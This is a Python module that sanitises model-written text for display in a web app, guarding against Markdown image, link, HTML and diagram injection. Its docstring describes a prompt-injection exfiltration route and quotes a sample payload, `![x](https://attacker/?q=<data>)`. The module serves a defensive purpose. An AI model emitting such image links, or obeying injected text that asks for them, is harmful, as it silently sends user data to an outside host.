"""The one rendering rule for text the app did not write: answers, reasoning, REPL output,
sub-call prompts and responses, child answers, errors, questions, labels from stored runs.

A model that read a prompt-injected document can write `![x](https://attacker/?q=<data>)`: drawn
as Markdown, the browser fetches it with no click, around the sandbox's network wall. So text
that the model (or another visitor) controls goes to `st.markdown`, labels and captions only
through `safe_markdown`, to HTML only through `safe_html`, or as plain text (`st.code`, tables).

`safe_markdown` keeps readable formatting (emphasis, lists, headings, tables, code, math) and
shows everything else as the text it is: no image, no link whose address is hidden, no HTML, no
diagram. It does so without parsing Markdown (a parser that disagrees with the browser's is a
hole): a zero-width space (U+200B) goes right after every character that opens such syntax, so
no construct can start, wherever it is (prose, code, lists, quotes):

- `<`: no HTML tag, comment or autolink (`<img>`, `<iframe>`, `<style>`, `<http://...>`);
  raw HTML is shown as text, the same way at the start of an answer as in its middle;
- `![`, `](`, `][`, `]:`: no image, no inline link, no reference link, no link definition;
- a fence opening with `mermaid`: a code block, not a diagram.

Addresses in plain text stay visible (the browser's own autolinking opens them only on a click).
The zero-width spaces are invisible; copied text carries them.
"""

from __future__ import annotations

import html
import re

ZWSP = "\u200b"
# Each match is followed by a zero-width space: the character that would open the construct.
_OPENERS = re.compile(r"<|!(?=\[)|\](?=[(\[:])|(?:`{3,}|~{3,})[ \t]*(?=mermaid)", re.IGNORECASE)


def safe_markdown(text: str | None) -> str:
    """`text` as Markdown that makes the browser load nothing and run nothing (module doc)."""
    if not text:
        return ""
    return _OPENERS.sub(lambda match: match.group(0) + ZWSP, text)


def safe_html(text: str | None) -> str:
    """`text` as HTML text: every tag and entity shown as written."""
    return html.escape(text or "", quote=True)
